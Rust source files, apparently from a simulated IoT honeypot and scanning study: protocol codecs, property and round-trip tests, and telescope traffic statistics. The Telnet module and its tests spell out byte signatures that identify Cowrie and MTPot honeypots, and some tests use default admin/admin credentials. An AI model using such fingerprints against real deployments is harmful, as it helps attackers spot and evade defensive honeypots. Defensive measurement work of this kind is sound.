        let days = effective_days;
        let mut counts: BTreeMap<Protocol, u64> = BTreeMap::new();
        let mut sources: BTreeMap<Protocol, BTreeSet<Ipv4Addr>> = BTreeMap::new();
        let mut hours: BTreeSet<u64> = BTreeSet::new();
        for rec in telescope.records_in_days(from_day, to_day) {
            let Some(proto) = rec.target_protocol() else {
                continue;
            };
            if !Protocol::SCANNED.contains(&proto) {
                continue;
            }
            *counts.entry(proto).or_insert(0) += rec.packet_cnt as u64;
            sources.entry(proto).or_default().insert(rec.src_ip);
            hours.insert(rec.time.0 / 3_600_000);
        }
        let mut rows: Vec<DailyProtocolStats> = Protocol::SCANNED
            .iter()
            .map(|&p| {
                let srcs = sources.remove(&p).unwrap_or_default();
                let scanning = srcs.iter().filter(|s| known_scanners.contains(s)).count();
                DailyProtocolStats {
                    protocol: p,
                    daily_avg_count: *counts.get(&p).unwrap_or(&0) as f64 / days,
                    unique_sources: srcs.len(),
                    scanning_service_sources: scanning,
                    unknown_sources: srcs.len() - scanning,
                }
            })
            .collect();
        // Table 8 is ordered by daily count, descending (Telnet first).
        rows.sort_by(|a, b| b.daily_avg_count.total_cmp(&a.daily_avg_count));
        let total_daily_avg = rows.iter().map(|r| r.daily_avg_count).sum();
        let all_sources: BTreeSet<Ipv4Addr> = telescope
            .records_in_days(from_day, to_day)
            .filter(|r| {
                r.target_protocol()
                    .is_some_and(|p| Protocol::SCANNED.contains(&p))
            })
            .map(|r| r.src_ip)
            .collect();
        TelescopeSummary {
            rows,
            total_daily_avg,
            total_unique_sources: all_sources.len(),
            span_days,
            effective_days,
            covered_hours: hours.len() as u64,
        }
    }

    /// All unique sources towards the studied protocols (for the §5.3 join).
    pub fn row(&self, protocol: Protocol) -> Option<&DailyProtocolStats> {
        self.rows.iter().find(|r| r.protocol == protocol)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_intel::GeoDb;
    use ofh_net::sim::FlowTap;
    use ofh_net::{ip, FlowKind, FlowObservation, SimTime, Transport};

    fn observe(t: &mut Telescope, src: Ipv4Addr, dst_port: u16, time_ms: u64) {
        t.observe(&FlowObservation {
            time: SimTime(time_ms),
            src,
            dst: ip(16, 0, 0, 1),
            src_port: 55_555,
            dst_port,
            transport: Transport::Tcp,
            kind: FlowKind::TcpSyn,
            ttl: 40,
            tcp_flags: FlowObservation::SYN,
            tcp_window: 65_535,
            ip_len: 60,
            payload: Default::default(),
            spoofed: false,
        });
    }

    #[test]
    fn summary_counts_and_classifies() {
        let mut t = Telescope::new(GeoDb::new());
        // 3 Telnet flows from 2 sources (one a known scanner), 1 MQTT flow.
        observe(&mut t, ip(9, 0, 0, 1), 23, 1_000);
        observe(&mut t, ip(9, 0, 0, 1), 23, 2_000);
        observe(&mut t, ip(9, 0, 0, 2), 23, 3_000);
        observe(&mut t, ip(9, 0, 0, 3), 1883, 4_000);
        // Non-studied port is ignored.
        observe(&mut t, ip(9, 0, 0, 4), 8080, 5_000);

        let mut scanners = BTreeSet::new();
        scanners.insert(ip(9, 0, 0, 2));
        let summary = TelescopeSummary::compute(&t, 0, 1, &scanners);

        let telnet = summary.row(Protocol::Telnet).unwrap();
        assert_eq!(telnet.daily_avg_count, 3.0);
        assert_eq!(telnet.unique_sources, 2);
        assert_eq!(telnet.scanning_service_sources, 1);
        assert_eq!(telnet.unknown_sources, 1);
        assert_eq!(summary.row(Protocol::Mqtt).unwrap().unique_sources, 1);
        assert_eq!(summary.total_unique_sources, 3);
        // Ordering: Telnet (3/day) before MQTT (1/day).
        assert_eq!(summary.rows[0].protocol, Protocol::Telnet);
    }

    #[test]
    fn daily_average_over_multiple_days() {
        let mut t = Telescope::new(GeoDb::new());
        for day in 0..4u64 {
            observe(&mut t, ip(9, 0, 0, 1), 23, day * 86_400_000 + 10);
        }
        let summary = TelescopeSummary::compute(&t, 0, 4, &BTreeSet::new());
        assert_eq!(summary.row(Protocol::Telnet).unwrap().daily_avg_count, 1.0);
        assert_eq!(summary.span_days, 4.0);
        assert_eq!(summary.effective_days, 4.0);
        assert_eq!(summary.covered_hours, 4);
    }

    #[test]
    fn outage_time_is_discounted_from_daily_averages() {
        let mut t = Telescope::new(GeoDb::new());
        // Records on days 0..3 only; day 3 was a scheduled full-day outage.
        for day in 0..3u64 {
            observe(&mut t, ip(9, 0, 0, 1), 23, day * 86_400_000 + 10);
        }
        let gapless = TelescopeSummary::compute(&t, 0, 4, &BTreeSet::new());
        assert_eq!(gapless.row(Protocol::Telnet).unwrap().daily_avg_count, 0.75);
        let aware = TelescopeSummary::compute_gap_aware(&t, 0, 4, &BTreeSet::new(), 1_440);
        assert_eq!(aware.effective_days, 3.0);
        assert_eq!(aware.row(Protocol::Telnet).unwrap().daily_avg_count, 1.0);
        // The denominator never collapses below one hour.
        let dark = TelescopeSummary::compute_gap_aware(&t, 0, 4, &BTreeSet::new(), 100_000);
        assert_eq!(dark.effective_days, 1.0 / 24.0);
    }
}
