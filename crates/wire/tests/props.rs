//! Property tests for the protocol codecs: encode/decode roundtrips on
//! structured inputs, and decode-never-panics on arbitrary bytes (the
//! honeypots face hostile traffic; a codec panic would be a DoS).

use ofh_wire::{amqp, coap, ftp, http, modbus, mqtt, s7, smb, ssdp, ssh, telnet, xmpp};
use proptest::prelude::*;

// ---- structured roundtrips ----

fn topic_strategy() -> impl Strategy<Value = String> {
    "[a-zA-Z0-9_/$#+-]{1,40}"
}

proptest! {
    #[test]
    fn mqtt_connect_roundtrip(
        client_id in "[a-zA-Z0-9_-]{0,23}",
        username in proptest::option::of("[a-z]{1,12}"),
        password in proptest::option::of(prop::collection::vec(any::<u8>(), 0..16)),
        keep_alive in any::<u16>(),
        clean in any::<bool>(),
    ) {
        let p = mqtt::Packet::Connect {
            client_id, username, password, keep_alive, clean_session: clean,
        };
        let wire = p.encode();
        let (back, used) = mqtt::Packet::decode(&wire).unwrap();
        prop_assert_eq!(back, p);
        prop_assert_eq!(used, wire.len());
    }

    #[test]
    fn mqtt_publish_roundtrip(
        topic in topic_strategy(),
        payload in prop::collection::vec(any::<u8>(), 0..256),
        qos in 0u8..=1,
        retain in any::<bool>(),
    ) {
        let p = mqtt::Packet::Publish {
            packet_id: if qos > 0 { Some(7) } else { None },
            topic, payload, qos, retain,
        };
        let (back, _) = mqtt::Packet::decode(&p.encode()).unwrap();
        prop_assert_eq!(back, p);
    }

    #[test]
    fn mqtt_remaining_length_roundtrip(len in 0usize..(1 << 20)) {
        let mut out = Vec::new();
        mqtt::encode_remaining_length(len, &mut out);
        let (v, used) = mqtt::decode_remaining_length(&out).unwrap();
        prop_assert_eq!(v, len);
        prop_assert_eq!(used, out.len());
    }

    #[test]
    fn coap_roundtrip(
        mid in any::<u16>(),
        token in prop::collection::vec(any::<u8>(), 0..=8),
        payload in prop::collection::vec(any::<u8>(), 0..128),
        // Option numbers must grow; generate deltas and accumulate.
        deltas in prop::collection::vec(1u16..400, 0..6),
        values in prop::collection::vec(prop::collection::vec(any::<u8>(), 0..300), 0..6),
    ) {
        let mut number = 0u16;
        let options: Vec<coap::CoapOption> = deltas
            .iter()
            .zip(values.iter())
            .map(|(d, v)| {
                number += d;
                coap::CoapOption { number, value: v.clone() }
            })
            .collect();
        let m = coap::Message {
            msg_type: coap::MsgType::Confirmable,
            code: coap::Code::GET,
            message_id: mid,
            token,
            options,
            payload,
        };
        let back = coap::Message::decode(&m.encode()).unwrap();
        prop_assert_eq!(back, m);
    }

    #[test]
    fn telnet_roundtrip(
        texts in prop::collection::vec(prop::collection::vec(any::<u8>(), 1..32), 1..6),
    ) {
        // Alternate text and negotiations; parse(encode(x)) == x requires
        // adjacent text runs to be separated, which negotiations guarantee.
        let mut items = Vec::new();
        for (i, t) in texts.into_iter().enumerate() {
            items.push(telnet::TelnetItem::Text(t));
            items.push(telnet::TelnetItem::Negotiation(
                [telnet::Verb::Will, telnet::Verb::Do][i % 2],
                (i % 40) as u8,
            ));
        }
        let wire = telnet::encode_stream(&items);
        prop_assert_eq!(telnet::parse_stream(&wire).unwrap(), items);
    }

    #[test]
    fn amqp_connection_start_roundtrip(
        version in "[0-9]\\.[0-9]\\.[0-9]",
        mechanisms in "(PLAIN|ANONYMOUS|PLAIN AMQPLAIN)",
        props in prop::collection::vec(("[a-z_]{1,12}", "[ -~]{0,24}"), 0..5),
    ) {
        let start = amqp::ConnectionStart {
            version_major: 0,
            version_minor: 9,
            server_properties: {
                let mut p = props;
                p.push(("version".to_string(), version));
                p
            },
            mechanisms,
            locales: "en_US".into(),
        };
        let frame = amqp::Frame {
            frame_type: amqp::frame_type::METHOD,
            channel: 0,
            payload: start.encode_method(),
        };
        let (back, _) = amqp::Frame::decode(&frame.encode()).unwrap();
        let method = amqp::ConnectionStart::decode_method(&back.payload).unwrap();
        prop_assert_eq!(method, start);
    }

    #[test]
    fn xmpp_features_roundtrip(
        from in "[a-z][a-z0-9.-]{0,20}",
        id in "[a-zA-Z0-9]{1,12}",
        plain in any::<bool>(),
        anon in any::<bool>(),
        tls in prop::option::of(any::<bool>()),
    ) {
        let mut mechanisms = Vec::new();
        if plain { mechanisms.push(xmpp::Mechanism::Plain); }
        if anon { mechanisms.push(xmpp::Mechanism::Anonymous); }
        let f = xmpp::StreamFeatures {
            from, id,
            starttls: tls.map(|req| if req { xmpp::TlsPolicy::Required } else { xmpp::TlsPolicy::Optional }),
            mechanisms,
            version: None,
        };
        let back = xmpp::StreamFeatures::parse(&f.render()).unwrap();
        prop_assert_eq!(back, f);
    }

    #[test]
    fn http_roundtrip(
        path in "/[a-zA-Z0-9/_.-]{0,30}",
        body in prop::collection::vec(any::<u8>(), 0..200),
    ) {
        // render() injects Content-Length when a body is present, so compare
        // the semantic fields rather than the raw header list.
        let r = http::Request::post(&path, body);
        let back = http::Request::parse(&r.render()).unwrap();
        prop_assert_eq!(&back.method, &r.method);
        prop_assert_eq!(&back.path, &r.path);
        prop_assert_eq!(&back.body, &r.body);
        prop_assert_eq!(back.header("Host"), r.header("Host"));
    }

    #[test]
    fn ftp_roundtrip(verb in "[A-Z]{3,4}", arg in proptest::option::of("[ -~]{1,30}")) {
        let c = ftp::Command::new(&verb, arg.as_deref());
        prop_assert_eq!(ftp::Command::parse(&c.render()).unwrap(), c);
    }

    #[test]
    fn smb_roundtrip(
        command in any::<u8>(),
        status in any::<u32>(),
        mid in any::<u16>(),
        data in prop::collection::vec(any::<u8>(), 0..256),
    ) {
        let m = smb::SmbMessage { command, status, flags2: 0xC853, mid, data };
        prop_assert_eq!(smb::SmbMessage::decode(&m.encode()).unwrap(), m);
    }

    #[test]
    fn modbus_roundtrip(
        tid in any::<u16>(),
        unit in any::<u8>(),
        function in any::<u8>(),
        data in prop::collection::vec(any::<u8>(), 0..64),
    ) {
        let f = modbus::Frame { transaction_id: tid, unit_id: unit, function, data };
        prop_assert_eq!(modbus::Frame::decode(&f.encode()).unwrap(), f);
    }

    #[test]
    fn s7_roundtrip(
        pdu_type in prop::sample::select(vec![1u8, 2, 3, 7]),
        pdu_ref in any::<u16>(),
        parameters in prop::collection::vec(any::<u8>(), 0..32),
        data in prop::collection::vec(any::<u8>(), 0..64),
    ) {
        let m = s7::S7Message { pdu_type, pdu_ref, parameters, data };
        prop_assert_eq!(s7::S7Message::decode(&m.encode()).unwrap(), m);
    }

    #[test]
    fn ssh_roundtrip(software in "[a-zA-Z0-9_.]{1,20}", comments in proptest::option::of("[ -~]{1,20}")) {
        let id = match &comments {
            Some(c) => ssh::Identification::with_comments(&software, c),
            None => ssh::Identification::new(&software),
        };
        prop_assert_eq!(ssh::Identification::parse(&id.render()).unwrap(), id);
    }

    #[test]
    fn ssdp_roundtrip(
        // Header values are whitespace-trimmed on parse, so interior spaces
        // only.
        server in "[a-zA-Z0-9./-]([a-zA-Z0-9 ./-]{0,38}[a-zA-Z0-9./-])?",
        uuid in "[a-f0-9-]{8,36}",
    ) {
        let m = ssdp::SsdpMessage::discovery_response(&server, &uuid, "http://192.168.0.1/desc.xml");
        let back = ssdp::SsdpMessage::parse(&m.render()).unwrap();
        prop_assert_eq!(back, m);
    }
}

// ---- decode never panics on arbitrary bytes ----

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn decoders_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..512)) {
        let _ = mqtt::Packet::decode(&bytes);
        let _ = coap::Message::decode(&bytes);
        let _ = telnet::parse_stream(&bytes);
        let _ = telnet::visible_text(&bytes);
        let _ = amqp::Frame::decode(&bytes);
        let _ = amqp::ConnectionStart::decode_method(&bytes);
        let _ = smb::SmbMessage::decode(&bytes);
        let _ = modbus::Frame::decode(&bytes);
        let _ = s7::S7Message::decode(&bytes);
        let _ = http::Request::parse(&bytes);
        let _ = http::Response::parse(&bytes);
    }

    #[test]
    fn text_decoders_never_panic(text in "\\PC{0,256}") {
        let _ = xmpp::StreamFeatures::parse(&text);
        let _ = ssdp::SsdpMessage::parse(&text);
        let _ = ssh::Identification::parse(&text);
        let _ = ftp::Command::parse(&text);
        let _ = ftp::Reply::parse(&text);
        let _ = coap::parse_link_format(&text);
        let _ = ssdp::DeviceDescription::parse(&text);
    }
}
