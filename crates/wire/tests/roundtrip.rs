//! Encode→decode round-trip tests for every wire codec the study's scanners
//! and honeypots speak. Each test builds representative frames, encodes them,
//! decodes the bytes back, and asserts structural equality — guarding the
//! codecs the sharded simulation depends on for cross-run determinism.

use ofh_wire::{amqp, coap, mqtt, ssdp, telnet, xmpp};

// ---------------------------------------------------------------- MQTT

fn mqtt_roundtrip(packet: mqtt::Packet) {
    let bytes = packet.encode();
    let (decoded, used) = mqtt::Packet::decode(&bytes).expect("decode");
    assert_eq!(used, bytes.len(), "decode must consume the whole frame");
    assert_eq!(decoded, packet);
}

#[test]
fn mqtt_connect_roundtrip() {
    mqtt_roundtrip(mqtt::Packet::Connect {
        client_id: "sensor-17".into(),
        username: None,
        password: None,
        keep_alive: 60,
        clean_session: true,
    });
    mqtt_roundtrip(mqtt::Packet::Connect {
        client_id: "cam".into(),
        username: Some("admin".into()),
        password: Some(b"admin".to_vec()),
        keep_alive: 0,
        clean_session: false,
    });
}

#[test]
fn mqtt_connack_roundtrip() {
    mqtt_roundtrip(mqtt::Packet::ConnAck {
        session_present: false,
        return_code: mqtt::ConnectReturnCode::Accepted,
    });
    mqtt_roundtrip(mqtt::Packet::ConnAck {
        session_present: true,
        return_code: mqtt::ConnectReturnCode::BadProtocolVersion,
    });
}

#[test]
fn mqtt_subscribe_roundtrip() {
    mqtt_roundtrip(mqtt::Packet::Subscribe {
        packet_id: 7,
        topics: vec![("#".into(), 0), ("home/+/temp".into(), 1)],
    });
    mqtt_roundtrip(mqtt::Packet::SubAck {
        packet_id: 7,
        return_codes: vec![0, 1, 0x80],
    });
}

#[test]
fn mqtt_publish_roundtrip() {
    mqtt_roundtrip(mqtt::Packet::Publish {
        topic: "owntracks/user/phone".into(),
        packet_id: None,
        payload: br#"{"lat":52.5,"lon":13.4}"#.to_vec(),
        qos: 0,
        retain: true,
    });
    mqtt_roundtrip(mqtt::Packet::Publish {
        topic: "cmd".into(),
        packet_id: Some(99),
        payload: vec![0xFF, 0x00, 0xFF],
        qos: 1,
        retain: false,
    });
}

#[test]
fn mqtt_bare_packets_roundtrip() {
    mqtt_roundtrip(mqtt::Packet::PingReq);
    mqtt_roundtrip(mqtt::Packet::PingResp);
    mqtt_roundtrip(mqtt::Packet::Disconnect);
}

// ---------------------------------------------------------------- CoAP

fn coap_roundtrip(msg: coap::Message) {
    let bytes = msg.encode();
    let decoded = coap::Message::decode(&bytes).expect("decode");
    assert_eq!(decoded, msg);
}

#[test]
fn coap_scan_probe_roundtrip() {
    let probe = coap::Message::well_known_core_request(0x1234);
    coap_roundtrip(probe.clone());
    let reply = coap::Message::content_response(&probe, "</sensors/temp>;rt=\"temperature\"");
    coap_roundtrip(reply);
}

#[test]
fn coap_custom_message_roundtrip() {
    // Options deliberately exercise both small and extended (13+) deltas.
    coap_roundtrip(coap::Message {
        msg_type: coap::MsgType::NonConfirmable,
        code: coap::Code::new(4, 1),
        message_id: 0xFFFF,
        token: vec![1, 2, 3, 4, 5, 6, 7, 8],
        options: vec![
            coap::CoapOption {
                number: coap::option_num::URI_PATH,
                value: b"state".to_vec(),
            },
            coap::CoapOption {
                number: coap::option_num::URI_QUERY,
                value: b"k=v".to_vec(),
            },
            coap::CoapOption {
                number: coap::option_num::ACCEPT,
                value: vec![40],
            },
        ],
        payload: b"denied".to_vec(),
    });
}

// ---------------------------------------------------------------- SSDP

#[test]
fn ssdp_discovery_response_roundtrip() {
    let msg = ssdp::SsdpMessage::discovery_response(
        "Linux/3.14 UPnP/1.0 IpCam/1.0",
        "uuid:0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9",
        "http://192.168.1.54:49152/rootDesc.xml",
    );
    let text = msg.render();
    let parsed = ssdp::SsdpMessage::parse(&text).expect("parse");
    assert_eq!(parsed, msg);
}

#[test]
fn ssdp_msearch_roundtrip() {
    let text = ssdp::msearch_all();
    let parsed = ssdp::SsdpMessage::parse(&text).expect("parse");
    assert_eq!(parsed.start_line, "M-SEARCH * HTTP/1.1");
    // Canonical messages survive a render→parse→render cycle byte-for-byte.
    assert_eq!(parsed.render(), text);
}

// ---------------------------------------------------------------- Telnet

#[test]
fn telnet_stream_roundtrip() {
    let items = vec![
        telnet::TelnetItem::Negotiation(telnet::Verb::Will, telnet::option::ECHO),
        telnet::TelnetItem::Negotiation(telnet::Verb::Do, telnet::option::NAWS),
        telnet::TelnetItem::Text(b"login: ".to_vec()),
        telnet::TelnetItem::Command(241), // NOP
        telnet::TelnetItem::Text(b"root\r\n".to_vec()),
    ];
    let bytes = telnet::encode_stream(&items);
    assert_eq!(telnet::parse_stream(&bytes).expect("parse"), items);
}

#[test]
fn telnet_iac_escaping_roundtrip() {
    // A 0xFF data byte must be IAC-escaped on encode and unescaped on parse.
    let items = vec![telnet::TelnetItem::Text(vec![0x01, 0xFF, 0x02])];
    let bytes = telnet::encode_stream(&items);
    assert_eq!(bytes, vec![0x01, 0xFF, 0xFF, 0x02]);
    assert_eq!(telnet::parse_stream(&bytes).expect("parse"), items);
}

#[test]
fn telnet_negotiate_matches_stream_encoding() {
    let seq = telnet::negotiate(telnet::Verb::Dont, telnet::option::LINEMODE);
    let via_stream = telnet::encode_stream(&[telnet::TelnetItem::Negotiation(
        telnet::Verb::Dont,
        telnet::option::LINEMODE,
    )]);
    assert_eq!(seq.to_vec(), via_stream);
}

// ---------------------------------------------------------------- AMQP

#[test]
fn amqp_frame_roundtrip() {
    let frame = amqp::Frame {
        frame_type: amqp::frame_type::METHOD,
        channel: 0,
        payload: vec![0x00, 0x0A, 0x00, 0x0A, 0xDE, 0xAD],
    };
    let bytes = frame.encode();
    assert_eq!(*bytes.last().unwrap(), amqp::FRAME_END);
    let (decoded, used) = amqp::Frame::decode(&bytes).expect("decode");
    assert_eq!(used, bytes.len());
    assert_eq!(decoded, frame);
}

#[test]
fn amqp_connection_start_roundtrip() {
    let start = amqp::ConnectionStart {
        version_major: 0,
        version_minor: 9,
        server_properties: vec![
            ("product".into(), "RabbitMQ".into()),
            ("version".into(), "2.7.1".into()),
        ],
        mechanisms: "PLAIN AMQPLAIN".into(),
        locales: "en_US".into(),
    };
    let bytes = start.encode_method();
    let decoded = amqp::ConnectionStart::decode_method(&bytes).expect("decode");
    assert_eq!(decoded, start);
}

// ---------------------------------------------------------------- XMPP

#[test]
fn xmpp_stream_features_roundtrip() {
    let features = xmpp::StreamFeatures {
        from: "hue-bridge.local".into(),
        id: "c2a1".into(),
        starttls: Some(xmpp::TlsPolicy::Required),
        mechanisms: vec![xmpp::Mechanism::Plain, xmpp::Mechanism::ScramSha1],
        version: Some("ejabberd-2.1.11".into()),
    };
    let banner = features.render();
    let parsed = xmpp::StreamFeatures::parse(&banner).expect("parse");
    assert_eq!(parsed, features);
    assert!(parsed.offers(xmpp::Mechanism::Plain));
}

#[test]
fn xmpp_anonymous_no_tls_roundtrip() {
    let features = xmpp::StreamFeatures {
        from: "iot-gw".into(),
        id: "1".into(),
        starttls: None,
        mechanisms: vec![xmpp::Mechanism::Anonymous],
        version: None,
    };
    let parsed = xmpp::StreamFeatures::parse(&features.render()).expect("parse");
    assert_eq!(parsed, features);
}
