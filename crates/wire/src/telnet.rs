//! Telnet (RFC 854) — IAC command stream codec.
//!
//! Telnet is the paper's most-attacked protocol: it is scanned on ports 23 and
//! 2323, the misconfiguration indicators are shell prompts in the banner
//! (`$`, `root@xxx:~$`, Table 2), and honeypots betray themselves through
//! characteristic IAC negotiation prefixes in their banners (Table 6 — e.g.
//! Cowrie's `\xff\xfd\x1flogin:`). This module parses a raw Telnet byte
//! stream into negotiation commands and visible text, and encodes both.

use crate::error::WireError;

/// IAC — "interpret as command" escape byte.
pub const IAC: u8 = 255;

/// Telnet option-negotiation verbs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Verb {
    Will,
    Wont,
    Do,
    Dont,
}

impl Verb {
    pub const fn code(self) -> u8 {
        match self {
            Verb::Will => 251,
            Verb::Wont => 252,
            Verb::Do => 253,
            Verb::Dont => 254,
        }
    }

    pub const fn from_code(b: u8) -> Option<Verb> {
        match b {
            251 => Some(Verb::Will),
            252 => Some(Verb::Wont),
            253 => Some(Verb::Do),
            254 => Some(Verb::Dont),
            _ => None,
        }
    }
}

/// Common negotiated options (subset relevant to IoT honeypot banners).
pub mod option {
    pub const ECHO: u8 = 1;
    pub const SUPPRESS_GO_AHEAD: u8 = 3;
    pub const TERMINAL_TYPE: u8 = 24;
    pub const NAWS: u8 = 31;
    pub const LINEMODE: u8 = 34;
}

/// One element of a parsed Telnet stream.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TelnetItem {
    /// Plain visible bytes (prompt text, login banners…).
    Text(Vec<u8>),
    /// An IAC negotiation: WILL/WONT/DO/DONT + option.
    Negotiation(Verb, u8),
    /// An IAC command without an option byte (e.g. NOP=241, GA=249).
    Command(u8),
}

/// Parse a complete Telnet byte stream into items.
///
/// A trailing incomplete IAC sequence yields `Truncated`, matching what a
/// stream decoder would wait on.
pub fn parse_stream(bytes: &[u8]) -> Result<Vec<TelnetItem>, WireError> {
    let mut items = Vec::new();
    let mut text = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b != IAC {
            text.push(b);
            i += 1;
            continue;
        }
        // IAC sequence begins.
        if i + 1 >= bytes.len() {
            return Err(WireError::truncated("telnet IAC", 1));
        }
        let cmd = bytes[i + 1];
        if cmd == IAC {
            // Escaped 0xFF data byte.
            text.push(IAC);
            i += 2;
            continue;
        }
        if !text.is_empty() {
            items.push(TelnetItem::Text(std::mem::take(&mut text)));
        }
        if let Some(verb) = Verb::from_code(cmd) {
            if i + 2 >= bytes.len() {
                return Err(WireError::truncated("telnet negotiation option", 1));
            }
            items.push(TelnetItem::Negotiation(verb, bytes[i + 2]));
            i += 3;
        } else {
            items.push(TelnetItem::Command(cmd));
            i += 2;
        }
    }
    if !text.is_empty() {
        items.push(TelnetItem::Text(text));
    }
    Ok(items)
}

/// Encode items back to wire bytes (0xFF in text is IAC-escaped).
pub fn encode_stream(items: &[TelnetItem]) -> Vec<u8> {
    let mut out = Vec::new();
    for item in items {
        match item {
            TelnetItem::Text(t) => {
                for &b in t {
                    if b == IAC {
                        out.push(IAC);
                    }
                    out.push(b);
                }
            }
            TelnetItem::Negotiation(verb, opt) => {
                out.extend_from_slice(&[IAC, verb.code(), *opt]);
            }
            TelnetItem::Command(c) => out.extend_from_slice(&[IAC, *c]),
        }
    }
    out
}

/// Build an IAC negotiation sequence — handy for banner construction:
/// `negotiate(Verb::Do, option::NAWS)` is Cowrie's `\xff\xfd\x1f` prefix.
pub fn negotiate(verb: Verb, opt: u8) -> [u8; 3] {
    [IAC, verb.code(), opt]
}

/// The visible text of a banner with all IAC sequences stripped. Used by the
/// misconfiguration classifier, which looks for prompt substrings; lossy on
/// malformed trailing IACs (returns what was visible so far) because real
/// scan pipelines do the same.
pub fn visible_text(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b != IAC {
            out.push(b);
            i += 1;
        } else if i + 1 < bytes.len() && bytes[i + 1] == IAC {
            out.push(IAC);
            i += 2;
        } else if i + 1 < bytes.len() && Verb::from_code(bytes[i + 1]).is_some() {
            i += 3; // may overshoot a truncated tail; that's fine
        } else {
            i += 2;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_cowrie_banner() {
        // Cowrie's Table 6 signature: IAC DO NAWS followed by "login:".
        let banner = b"\xff\xfd\x1flogin: ";
        let items = parse_stream(banner).unwrap();
        assert_eq!(
            items,
            vec![
                TelnetItem::Negotiation(Verb::Do, option::NAWS),
                TelnetItem::Text(b"login: ".to_vec()),
            ]
        );
        assert_eq!(visible_text(banner), b"login: ");
    }

    #[test]
    fn parses_mtpot_banner() {
        // MTPot negotiates several options before the prompt.
        let banner = b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03login: ";
        let items = parse_stream(banner).unwrap();
        assert_eq!(items.len(), 5);
        assert_eq!(
            items[0],
            TelnetItem::Negotiation(Verb::Do, option::ECHO)
        );
        assert_eq!(visible_text(banner), b"login: ");
    }

    #[test]
    fn roundtrip_with_escaped_iac() {
        let items = vec![
            TelnetItem::Negotiation(Verb::Will, option::ECHO),
            TelnetItem::Text(vec![b'a', IAC, b'b']),
            TelnetItem::Command(241), // NOP
        ];
        let wire = encode_stream(&items);
        assert_eq!(parse_stream(&wire).unwrap(), items);
    }

    #[test]
    fn truncated_iac_reported() {
        assert!(matches!(
            parse_stream(b"abc\xff"),
            Err(WireError::Truncated { .. })
        ));
        assert!(matches!(
            parse_stream(b"\xff\xfd"),
            Err(WireError::Truncated { .. })
        ));
    }

    #[test]
    fn plain_text_passthrough() {
        let items = parse_stream(b"PK5001Z login:").unwrap();
        assert_eq!(items, vec![TelnetItem::Text(b"PK5001Z login:".to_vec())]);
    }

    #[test]
    fn visible_text_tolerates_garbage() {
        // Must never panic, even on malformed input.
        assert_eq!(visible_text(b"\xff"), b"");
        assert_eq!(visible_text(b"\xff\xfd"), b"");
        assert_eq!(visible_text(b"x\xff\xf1y"), b"xy");
    }
}
