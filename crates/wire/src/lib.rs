//! # ofh-wire — protocol codecs for the IoT attack-surface study
//!
//! Byte-level encoders/decoders for every protocol the paper touches:
//!
//! | module | protocol | role in the paper |
//! |---|---|---|
//! | [`telnet`] | Telnet (RFC 854) | scanned on 23/2323; honeypot fingerprinting banners (Table 6) |
//! | [`mqtt`] | MQTT 3.1.1 | scanned on 1883; "Connection Code: 0" misconfiguration (Table 2) |
//! | [`coap`] | CoAP (RFC 7252) | scanned on 5683/udp; `/.well-known/core` probe; reflection resource (Table 3) |
//! | [`amqp`] | AMQP 0-9-1 | scanned on 5672; version/mechanism banner (Table 2) |
//! | [`xmpp`] | XMPP (RFC 6120 subset) | scanned on 5222/5269; PLAIN/ANONYMOUS mechanisms (Table 2) |
//! | [`ssdp`] | SSDP / UPnP | scanned on 1900/udp; `ssdp:discover` probe; rootdevice disclosure (Table 3) |
//! | [`ssh`] | SSH identification | honeypot protocol (Cowrie, HosTaGe); Kippo fingerprint |
//! | [`http`] | HTTP/1.1 subset | honeypot protocol; Tor-relay scraping, DoS floods (§5.1.6) |
//! | [`ftp`] | FTP | Dionaea honeypot protocol; Mozi/Lokibot droppers (§5.1.5) |
//! | [`smb`] | SMB1 negotiate | Eternal* exploit vector, WannaCry droppers (§5.1.5) |
//! | [`modbus`] | Modbus/TCP | Conpot honeypot; register-poisoning attacks (§5.1.4) |
//! | [`s7`] | S7comm (TPKT/COTP) | Conpot honeypot; ICSA-16-299-01 DoS (§5.1.4) |
//!
//! Codecs follow the smoltcp school: plain structs, explicit parsing with
//! precise error values, no panics on arbitrary input (guaranteed by proptest
//! harnesses in each module), and golden-byte tests against hand-assembled
//! packets.
//!
//! ```
//! use ofh_wire::mqtt::{ConnectReturnCode, Packet};
//!
//! // The paper's Table 2 misconfiguration indicator, as real bytes:
//! let connack = Packet::ConnAck {
//!     session_present: false,
//!     return_code: ConnectReturnCode::Accepted, // "MQTT Connection Code:0"
//! };
//! let wire = connack.encode();
//! assert_eq!(wire, [0x20, 0x02, 0x00, 0x00]);
//! let (decoded, used) = Packet::decode(&wire).unwrap();
//! assert_eq!(decoded, connack);
//! assert_eq!(used, 4);
//! ```

pub mod amqp;
pub mod coap;
pub mod error;
pub mod ftp;
pub mod http;
pub mod modbus;
pub mod mqtt;
pub mod opcua;
pub mod proto;
pub mod s7;
pub mod smb;
pub mod ssdp;
pub mod ssh;
pub mod telnet;
pub mod tr069;
pub mod xmpp;

pub use error::WireError;
pub use proto::Protocol;

/// Well-known ports used throughout the workspace, as scanned by the paper.
pub mod ports {
    pub const TELNET: u16 = 23;
    pub const TELNET_ALT: u16 = 2323;
    pub const MQTT: u16 = 1883;
    pub const COAP: u16 = 5683;
    pub const AMQP: u16 = 5672;
    pub const XMPP_CLIENT: u16 = 5222;
    pub const XMPP_SERVER: u16 = 5269;
    pub const SSDP: u16 = 1900;
    pub const SSH: u16 = 22;
    pub const HTTP: u16 = 80;
    pub const FTP: u16 = 21;
    pub const SMB: u16 = 445;
    pub const MODBUS: u16 = 502;
    pub const S7: u16 = 102;
    pub const TR069: u16 = 7547;
    pub const OPCUA: u16 = 4840;
}
