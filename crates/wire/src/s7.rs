//! S7comm over TPKT/COTP — Siemens PLC protocol codec.
//!
//! Conpot emulates a Siemens S7 PLC on port 102. The paper observed DoS
